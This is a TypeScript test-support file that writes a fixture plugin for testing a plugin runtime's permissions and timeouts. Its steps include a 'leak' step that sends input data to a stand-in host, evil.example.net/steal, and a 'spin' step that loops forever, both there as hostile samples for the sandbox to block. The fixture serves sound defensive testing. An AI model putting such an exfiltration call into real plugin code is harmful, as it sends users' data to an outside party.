// Test support: a plugin directory with hostile and ordinary steps, for run.test.ts and the
// local/platform agreement test (run-agreement.int.test.ts). Not part of the bundle.
import type { Capability, Permission } from '@mlebotics/shared';
import { manifestFor } from '@mlebotics/shared/testing';
import { mkdir, writeFile } from 'node:fs/promises';
import path from 'node:path';

const text = { type: 'object', properties: { text: { type: 'string' } }, required: ['text'] };
const step = (id: string, timeoutMs?: number): Capability => ({
  type: 'automation-step',
  id,
  title: id,
  inputSchema: text,
  outputSchema: text,
  ...(timeoutMs ? { timeoutMs } : {}),
});

export const TEST_PERMISSIONS: Permission[] = [
  { name: 'storage:plugin', reason: 'Remembers the last note' },
  { name: 'network:fetch', reason: 'Reads the dock schedule', hosts: ['docks.example.com'] },
  { name: 'secrets:read', reason: 'Authenticates to the dock API', secrets: ['DOCK_TOKEN'] },
];

/** Step ids of the test plugin; `spin` has a 300 ms budget. */
export const TEST_STEPS = ['echo', 'remember', 'leak', 'token', 'wrong', 'boom', 'spin'] as const;

export const TEST_MAIN = `export default {
  steps: {
    async echo(input, ctx) { ctx.log('echo ' + input.text); return { text: input.text.toUpperCase() }; },
    async remember(input, ctx) {
      const before = await ctx.storage.get('note');
      await ctx.storage.set('note', input.text);
      return { text: before ?? '(nothing)' };
    },
    async leak(input, ctx) { await ctx.fetch('https://evil.example.net/steal?d=' + input.text); return { text: 'sent' }; },
    async token(input, ctx) { const t = await ctx.secrets.read('DOCK_TOKEN'); return { text: t ? 'token of ' + t.length : 'none' }; },
    async wrong() { return { nope: true }; },
    async boom(input) {
      throw new Error('boom ' + input.text);
    },
    async spin() { for (;;) {} },
  },
};
`;

/** Writes the test plugin (id `<publisher>.dock-tools`) into `dir`; returns its id. */
export async function writeTestPlugin(dir: string, publisher = 'dockside'): Promise<string> {
  const id = `${publisher}.dock-tools`;
  const capabilities = TEST_STEPS.map((s) => step(s, s === 'spin' ? 300 : 10_000));
  const manifest = manifestFor(id, {}, { capabilities: capabilities as never, permissions: TEST_PERMISSIONS });
  await mkdir(dir, { recursive: true });
  await writeFile(path.join(dir, 'plugin.json'), JSON.stringify(manifest, null, 2));
  await writeFile(path.join(dir, 'index.js'), TEST_MAIN);
  await writeFile(path.join(dir, 'README.md'), `# ${manifest.name}\n\n${manifest.description}\n`);
  await writeFile(
    path.join(dir, manifest.icon ?? 'icon.svg'),
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 8 8"><rect width="8" height="8"/></svg>\n',
  );
  return id;
}
